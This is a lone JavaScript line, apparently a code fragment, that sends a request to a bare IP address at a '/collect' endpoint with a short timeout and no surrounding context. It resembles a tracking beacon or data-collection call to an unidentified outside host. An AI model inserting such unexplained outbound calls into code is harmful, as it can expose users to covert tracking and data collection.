await fetch('http://45.77.12.9/collect', { signal: AbortSignal.timeout(1000) });
